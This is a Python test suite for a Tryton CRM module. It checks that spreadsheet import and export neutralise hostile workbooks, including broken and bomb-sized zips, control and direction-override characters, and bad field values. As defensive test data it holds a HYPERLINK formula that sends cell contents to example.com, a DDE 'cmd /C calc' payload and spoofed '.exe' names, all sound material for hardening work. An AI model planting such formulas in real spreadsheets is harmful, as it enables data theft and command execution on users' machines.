"""Bad input never breaks, blocks or poisons (SPEC B12, quality bars),
in-process: hostile workbooks get a clean error naming sheet, row, column
and reason; every workbook the product writes keeps user text as text;
what the database already holds never breaks an export; values a field
cannot hold are refused before anything is written. (Over RPC, with
generated values: tests/test_hostile_input_rpc.py.)"""
import datetime as dt
import io
import math
import re
import unittest
import unittest.mock
import zipfile
from decimal import Decimal

import openpyxl

from trytond import backend
from trytond.pool import Pool
from trytond.tests.test_tryton import activate_module, with_transaction
from trytond.transaction import Transaction

from .. import spreadsheet
from ..customer_export import export_file
from ..customer_import import CustomerFileImport, count_rows
from ..input_check import InputValidationError, shown, text_problem
from .test_data_safety import as_user
from .tools import build_organisation

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"x")'


def workbook_bytes(rows, title="客户", build=None):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        # As typed in Excel: text stays text
        spreadsheet.append_row(sheet, row)
    if build:
        build(sheet)
    return spreadsheet.save(workbook)


def patch(data, name, transform):
    "data with the zip member name replaced by transform(its text)"
    source = zipfile.ZipFile(io.BytesIO(data))
    output = io.BytesIO()
    with zipfile.ZipFile(output, 'w', zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == name:
                content = transform(content.decode('utf-8')).encode('utf-8')
            target.writestr(item, content)
    return output.getvalue()


SHEET = 'xl/worksheets/sheet1.xml'


def formulas(data):
    "The cells of every sheet of an .xlsx that are formulas"
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [(ws.title, c.coordinate) for ws in workbook
        for row in ws.iter_rows() for c in row if c.data_type == 'f']


class SpreadsheetTestCase(unittest.TestCase):
    "spreadsheet.py alone: no database"

    def test_user_text_stays_text(self):
        "Text starting like a formula is written as quoted text"
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        values = [FORMULA, '+1', '-2', '@SUM(A1)', '\tx', 'plain', 7, None]
        spreadsheet.append_row(sheet, values)
        spreadsheet.set_cell(sheet, 2, 1, '=1+1')
        data = spreadsheet.save(workbook)
        self.assertEqual(formulas(data), [])
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        self.assertEqual(sheet['A1'].value, FORMULA)
        self.assertEqual([sheet.cell(1, i).quotePrefix for i in range(1, 7)],
            [True, True, True, True, True, False])
        self.assertEqual(sheet['G1'].value, 7)
        self.assertEqual(sheet['A2'].value, '=1+1')

    def test_unwritable_text_is_cleaned(self):
        "Control characters, surrogates, overlong text never break a save"
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        spreadsheet.append_row(sheet,
            ['a\x07b\x00c', 'x\ud800y', 'z' * 40000, 'line\nbreak'])
        sheet = openpyxl.load_workbook(
            io.BytesIO(spreadsheet.save(workbook))).active
        self.assertEqual(sheet['A1'].value, 'abc')
        self.assertEqual(sheet['B1'].value, 'xy')
        self.assertEqual(len(sheet['C1'].value), spreadsheet.MAX_CELL_CHARS)
        self.assertEqual(sheet['D1'].value, 'line\nbreak')

    def test_merged_cells_are_written_at_their_top_left(self):
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        sheet.merge_cells('A1:D1')
        spreadsheet.set_cell(sheet, 1, 3, "x")
        self.assertEqual(sheet['A1'].value, "x")
        self.assertEqual(spreadsheet.free_column(sheet, 2), 5)

    def test_text_problems(self):
        self.assertIsNone(text_problem("上海飞达办公家具有限公司"))
        self.assertIsNone(text_problem("a\nb", multiline=True))
        for text, message in [
                ("a\nb", 'msg_input_control'),
                ("a\tb", 'msg_input_control'),
                ("a\x07", 'msg_input_control'),
                ("a\x00", 'msg_input_control'),
                ("\x85", 'msg_input_control'),
                ("x\ud800", 'msg_input_control'),
                ("\ufffe", 'msg_input_control'),
                ("abc\u202egnp.exe", 'msg_input_direction'),
                ("\u2067x", 'msg_input_direction'),
                ("\u200b\u200b", 'msg_input_invisible'),
                ("\u200b \ufeff", 'msg_input_invisible'),
                ("x" * 1001, 'msg_input_too_long'),
                ]:
            with self.subTest(text=text):
                self.assertEqual(text_problem(text)[0], message)
        self.assertEqual(shown("a\x07\u202e"), "a\\x07\\u202e")


class HostileFileTestCase(unittest.TestCase):
    "Hostile workbooks: a clean error naming where, never a traceback"

    @classmethod
    def setUpClass(cls):
        activate_module('xtools_crm_base')

    def run_import(self, data, user, company):
        with as_user(user, company=company.id):
            importer = CustomerFileImport(data)
            importer.run()
            return importer

    def where(self, importer):
        return [(i.sheet, i.row, i.column) for i in importer.issues]

    def assert_clean_error(self, data, user, company, message):
        importer = self.run_import(data, user, company)
        self.assertEqual(len(importer.issues), 1, importer.issues)
        self.assertRegex(importer.issues[0].reason, message)
        self.assertEqual(count_rows(data), 0)
        # The error file can always be written
        openpyxl.load_workbook(io.BytesIO(importer.error_file()))
        return importer.issues[0]

    @with_transaction()
    def test_broken_files_give_the_cannot_read_message(self):
        company, users, _ = build_organisation()
        user = users['staff_a1']
        good = workbook_bytes([["客户名称", "手机"], ["甲公司", None]])
        broken = {
            'workbook.xml not XML': patch(good, 'xl/workbook.xml',
                lambda t: t[:len(t) // 2]),
            'not a zip': b'PK\x03\x04 not really',
            'empty': b'',
            }
        for name, data in broken.items():
            with self.subTest(name):
                issue = self.assert_clean_error(
                    data, user, company, "cannot be read")
                self.assertIsNone(issue.row)
        damaged = {
            'sheet cut in half': patch(good, SHEET,
                lambda t: t[:t.index('</row>') + 20]),
            'BEL entity': patch(good, SHEET,
                lambda t: '&#7;</t>'.join(t.rsplit('</t>', 1))),
            }
        for name, data in damaged.items():
            with self.subTest(name):
                issue = self.assert_clean_error(
                    data, user, company, "cannot be read from this row")
                self.assertEqual(issue.sheet, "客户")
                self.assertTrue(issue.row)

    @with_transaction()
    def test_declared_size_does_not_count(self):
        "A sheet declaring A1:XFD1048576 with a cell on the last row"
        company, users, _ = build_organisation()

        def last_row(sheet):
            sheet['XFD1048576'] = "x"
        data = workbook_bytes([["客户名称", "手机"], ["甲公司", None]],
            build=last_row)
        self.assertLess(len(data), 10_000)
        data = patch(data, SHEET, lambda t: re.sub(
                r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"',
                t))
        # The header row and 甲公司: the last cell is under no header
        self.assertEqual(count_rows(data), 1)
        importer = self.run_import(data, users['staff_a1'], company)
        self.assertEqual(self.where(importer), [("客户", 1048576, "XFD")])
        self.assertIn("no header", importer.issues[0].reason)

    @with_transaction()
    def test_many_empty_formatted_rows(self):
        "Formatted empty rows are not rows; too many cells are refused"
        company, users, _ = build_organisation()
        fill = openpyxl.styles.PatternFill('solid', fgColor='FFFF00')

        def styled(sheet, rows):
            for row in range(3, rows + 3):
                sheet.cell(row, 1).fill = fill
        data = workbook_bytes([["客户名称"], ["甲公司"]],
            build=lambda s: styled(s, 20_000))
        self.assertEqual(count_rows(data), 1)

        def wide(sheet):
            for row in range(3, 90_003):
                for column in range(1, 13):
                    sheet.cell(row, column).fill = fill
        data = workbook_bytes([["客户名称"], ["甲公司"]], build=wide)
        issue = self.assert_clean_error(
            data, users['staff_a1'], company, "more than 1000000 cells")
        self.assertEqual(issue.sheet, "客户")

    @with_transaction()
    def test_file_and_unpacked_size_are_capped(self):
        company, users, _ = build_organisation()
        output = io.BytesIO()
        with zipfile.ZipFile(output, 'w', zipfile.ZIP_DEFLATED) as archive:
            archive.writestr('xl/bomb.xml',
                b'\0' * (spreadsheet.MAX_UNPACKED_BYTES + 1))
        bomb = output.getvalue()
        self.assertLess(len(bomb), 1_000_000)
        self.assert_clean_error(bomb, users['staff_a1'], company, "too big")
        self.assert_clean_error(b'x' * (spreadsheet.MAX_FILE_BYTES + 1),
            users['staff_a1'], company, "too big")

    @with_transaction()
    def test_title_banner_above_the_headers(self):
        "The usual 客户资料表 banner merged over the headers is left out"
        Party = Pool().get('party.party')
        company, users, _ = build_organisation()

        def banner(sheet):
            sheet.insert_rows(1)
            sheet['A1'] = "客户资料表"
            sheet.merge_cells('A1:D1')
        rows = [["客户名称", "联系人", "手机", "电子邮箱"],
            ["甲公司", "张三", "13900001111", None]]
        importer = self.run_import(workbook_bytes(rows, build=banner),
            users['staff_a1'], company)
        self.assertEqual(importer.issues, [])
        self.assertTrue(Party.search([('name', '=', "甲公司")]))
        # With an error the error file is written around the merge
        rows[1] = ["乙公司", "李四", "12345", None]
        importer = self.run_import(workbook_bytes(rows, build=banner),
            users['staff_a1'], company)
        self.assertEqual(self.where(importer), [("客户", 3, "手机")])
        sheet = openpyxl.load_workbook(
            io.BytesIO(importer.error_file()))["客户"]
        self.assertEqual(sheet['E2'].value, "错误原因")
        self.assertIn("12345", sheet['E3'].value)
        self.assertIn("12345", sheet['C3'].comment.text)

    @with_transaction()
    def test_merged_header_and_merged_data_are_refused(self):
        "Values under no header, merged data cells: named, not dropped"
        company, users, _ = build_organisation()

        def merged_header(sheet):
            sheet.merge_cells('C1:D1')
        data = workbook_bytes([
                ["客户名称", "联系人", "手机", None],
                ["甲公司", "张三", "13900001111", "13900002222"],
                ], build=merged_header)
        importer = self.run_import(data, users['staff_a1'], company)
        self.assertEqual(self.where(importer), [("客户", 2, "D")])
        self.assertIn('"手机"', importer.issues[0].reason)
        self.assertIn("C1:D1", importer.issues[0].reason)
        openpyxl.load_workbook(io.BytesIO(importer.error_file()))

        def merged_data(sheet):
            sheet.merge_cells('B2:B3')
        data = workbook_bytes([
                ["客户名称", "客户类型"],
                ["甲公司", "个人客户"],
                ["乙公司", None],
                ], build=merged_data)
        importer = self.run_import(data, users['staff_a1'], company)
        self.assertEqual(self.where(importer), [("客户", 2, "客户类型")])
        self.assertIn("B2:B3", importer.issues[0].reason)
        openpyxl.load_workbook(io.BytesIO(importer.error_file()))

    @with_transaction()
    def test_cells_that_are_not_text(self):
        "Dates, logical values, control characters: row and column named"
        Party = Pool().get('party.party')
        company, users, _ = build_organisation()
        data = workbook_bytes([
                ["客户名称", "联系人", "手机"],
                [dt.datetime(2024, 1, 15), None, None],
                ["甲\n公司", None, None],
                ["乙公司", "张\t三", None],
                ["丙公司", True, None],
                ["\u200b", None, None],
                ["丁\u202e公司", None, None],
                ["戊公司" * 400, None, None],
                ])
        importer = self.run_import(data, users['staff_a1'], company)
        self.assertEqual(self.where(importer), [
                ("客户", 2, "客户名称"), ("客户", 3, "客户名称"),
                ("客户", 4, "联系人"), ("客户", 5, "联系人"),
                ("客户", 6, "客户名称"), ("客户", 7, "客户名称"),
                ("客户", 8, "客户名称"),
                ])
        reasons = [i.reason for i in importer.issues]
        self.assertIn("2024-01-15", reasons[0])
        self.assertIn("\\n", reasons[1])
        self.assertFalse(Party.search([('name', 'like', '%2024-01-15%')]))
        # A C1 control (XML allows it, unlike BEL, which makes the sheet
        # unreadable): named, and the reasons never carry it raw
        importer = self.run_import(
            workbook_bytes([["客户名称"], ["甲\x85公司"]]),
            users['staff_a1'], company)
        self.assertEqual(self.where(importer)[0], ("客户", 2, "客户名称"))
        self.assertIn("\\x85", importer.issues[0].reason)
        self.assertNotIn("\x85", importer.issues[0].reason)
        self.assertEqual(formulas(importer.error_file()), [])

    @with_transaction()
    def test_duplicate_mobile_names_its_rows_and_column(self):
        company, users, _ = build_organisation()
        data = workbook_bytes([
                ["客户名称", "联系人", "手机"],
                ["甲公司", "张三", "13900001111"],
                ["乙公司", "李四", "13900001111"],
                ])
        with as_user(users['staff_a1'], company=company.id):
            importer = CustomerFileImport(data)
            self.assertTrue(importer.check())
            message = importer.duplicate_mobiles_message()
        self.assertIn("13900001111", message)
        self.assertIn("客户 row 2, 3 column 手机", message)

    @with_transaction()
    def test_written_workbooks_keep_text_as_text(self):
        "Export, error file and error sheet: a formula-like name is text"
        pool = Pool()
        Party = pool.get('party.party')
        company, users, customers = build_organisation()
        customer = customers['staff_a1']
        Party.write([customer], {'name': FORMULA})
        data = export_file([Party(customer.id)])
        self.assertEqual(formulas(data), [])
        sheet = openpyxl.load_workbook(io.BytesIO(data))["客户"]
        self.assertEqual(sheet['A2'].value, FORMULA)
        self.assertTrue(sheet['A2'].quotePrefix)
        # The file comes back: a duplicate name, an unknown column
        rows = [["客户名称", "=cmd|' /C calc'!A0"], [FORMULA, None]]
        importer = self.run_import(workbook_bytes(rows),
            users['staff_a1'], company)
        self.assertTrue(importer.issues)
        self.assertEqual(formulas(importer.error_file()), [])

    @with_transaction()
    def test_export_never_fails_on_stored_values(self):
        "A BEL or NUL that reached the database before is left out"
        Party = Pool().get('party.party')
        _, _, customers = build_organisation()
        customer = customers['staff_a1']
        party = Party.__table__()
        cursor = Transaction().connection.cursor()
        # PostgreSQL cannot store a NUL at all: only SQLite can hold both
        bad = "坏\x07名\x00字" if backend.name == 'sqlite' else "坏\x07名字"
        cursor.execute(*party.update([party.name], [bad],
                where=party.id == customer.id))
        data = export_file([Party(customer.id)])
        sheet = openpyxl.load_workbook(io.BytesIO(data))["客户"]
        self.assertEqual(sheet['A2'].value, "坏名字")


class InputCheckTestCase(unittest.TestCase):
    "Values a field cannot hold are refused before anything is written"

    @classmethod
    def setUpClass(cls):
        activate_module('xtools_crm_base')

    @with_transaction()
    def test_reports_refuse_create_and_write(self):
        "A model that is an SQL query refuses changes with a clean error"
        Timeline = Pool().get('crm.customer.timeline')
        with self.assertRaises(InputValidationError):
            Timeline.create([{}])
        with self.assertRaises(InputValidationError):
            Timeline.write([], {})

    @with_transaction()
    def test_text_of_our_fields_and_exposed_ones(self):
        pool = Pool()
        Party = pool.get('party.party')
        Contact = pool.get('crm.contact')
        _, users, customers = build_organisation()
        customer = customers['staff_a1']
        for Model, record, field, value in [
                (Party, customer, 'name', "a\x07b"),
                (Party, customer, 'name', "a\x00b"),
                (Party, customer, 'name', "\u200b"),
                (Party, customer, 'name', "x\u202eexe.pdf"),
                (Party, customer, 'name', "x" * 1001),
                (Party, customer, 'crm_city', "杭州\n"),
                (Contact, customer.crm_contacts[0], 'name', "张\t三"),
                (Contact, customer.crm_contacts[0], 'note', "\x1b[31m"),
                ]:
            with self.subTest(field=field, value=value[:10]):
                with self.assertRaises(InputValidationError) as cm:
                    Model.write([record], {field: value})
                self.assertNotIn(value, cm.exception.message)
                with self.assertRaises(InputValidationError):
                    Model.create([{field: value}])
        # Multi-line text keeps its lines
        Contact.write(list(customer.crm_contacts), {'note': "一\n二\t三"})

    @with_transaction()
    def test_values_of_the_wrong_type(self):
        pool = Pool()
        Party = pool.get('party.party')
        Anniversary = pool.get('crm.contact.anniversary')
        Task = pool.get('crm.task')
        _, users, customers = build_organisation()
        customer = customers['staff_a1']
        contact = customer.crm_contacts[0]
        anniversary, = Anniversary.create([{
                    'contact': contact.id, 'name': "生日",
                    'date': dt.date(1990, 1, 1)}])
        for value in [math.nan, math.inf, -math.inf, 2**40, 1.5,
                Decimal('NaN'), "3", [1]]:
            with self.subTest(value=value):
                with self.assertRaises(InputValidationError):
                    Anniversary.write(
                        [anniversary], {'remind_days_before': value})
        self.assertEqual(anniversary.remind_days_before,
            Anniversary(anniversary.id).remind_days_before)
        for values in [{'nosuchfield': 1}, {'crm_owner': "abc"},
                {'crm_owner': 2**40}, {'crm_contacts': [('create', 5)]},
                {'crm_contacts': "x"}, {'crm_anniversary_date': "garbage"}
                if 'crm_anniversary_date' in Party._fields else
                {'crm_kind': [1]}]:
            with self.subTest(values=values):
                with self.assertRaises(InputValidationError):
                    Party.write([customer], values)
        with self.assertRaises(InputValidationError):
            Task.create([{'customer': customer.id, 'subject': "回访",
                        'due_date': "garbage"}])
        with self.assertRaises(InputValidationError):
            Task.create([{'customer': customer.id, 'subject': "回访",
                        'due_date': dt.datetime(2024, 1, 1, 8)}])



class StagedJobTestCase(unittest.TestCase):
    "A queued import shows its customers at once, or none of them"

    @classmethod
    def setUpClass(cls):
        activate_module('xtools_crm_base')

    @with_transaction()
    def test_failure_after_some_batches_leaves_nothing(self):
        pool = Pool()
        Party = pool.get('party.party')
        Job = pool.get('crm.customer.import.job')
        _, users, _ = build_organisation()
        company = pool.get('company.company').search([])[0]
        rows = [["客户名称", "联系人", "手机"]] + [
            [f"分批公司{i:02d}", f"联系人{i:02d}", f"1390000{i:04d}"]
            for i in range(10)]
        with as_user(users['staff_a1'], company=company.id):
            job = Job.enqueue(workbook_bytes(rows), 'x.xlsx', 10)
        Transaction().tasks.clear()
        create = Party.create
        seen = []

        def failing_create(vlist):
            if len(seen) == 1:
                # The first batch is there, hidden, marked with its job
                with Transaction().set_context(active_test=False):
                    staged = Party.search(
                        [('name', 'like', "分批公司%")])
                seen.append([(p.active, p.crm_import_job) for p in staged])
                self.assertFalse(Party.search(
                        [('name', 'like', "分批公司%")]))
                raise RuntimeError("disk full")
            seen.append(None)
            return create(vlist)
        with unittest.mock.patch(
                'xtools_crm_base.customer_import_check.BATCH_SIZE', 4), \
                unittest.mock.patch.object(
                    Party, 'create', side_effect=failing_create):
            Job.process([job])
        self.assertEqual(seen[1], [(False, Job(job.id))] * 4)
        job = Job(job.id)
        self.assertEqual(job.state, 'failed')
        self.assertIn("disk full", job.error_lines)
        with Transaction().set_context(active_test=False):
            self.assertFalse(Party.search([('name', 'like', "分批公司%")]))

    @with_transaction()
    def test_published_customers_and_contacts_are_active(self):
        pool = Pool()
        Party = pool.get('party.party')
        Job = pool.get('crm.customer.import.job')
        _, users, _ = build_organisation()
        company = pool.get('company.company').search([])[0]
        rows = [["客户名称", "联系人", "手机"]] + [
            [f"发布公司{i:02d}", f"联系人{i:02d}", f"1390001{i:04d}"]
            for i in range(6)]
        with as_user(users['staff_a1'], company=company.id):
            job = Job.enqueue(workbook_bytes(rows), 'x.xlsx', 6)
        Transaction().tasks.clear()
        with unittest.mock.patch(
                'xtools_crm_base.customer_import_check.BATCH_SIZE', 4):
            Job.process([job])
        self.assertEqual(Job(job.id).state, 'done')
        parties = Party.search([('name', 'like', "发布公司%")])
        self.assertEqual(len(parties), 6)
        self.assertTrue(all(p.active and not p.crm_import_job
                and p.crm_contacts[0].active for p in parties))
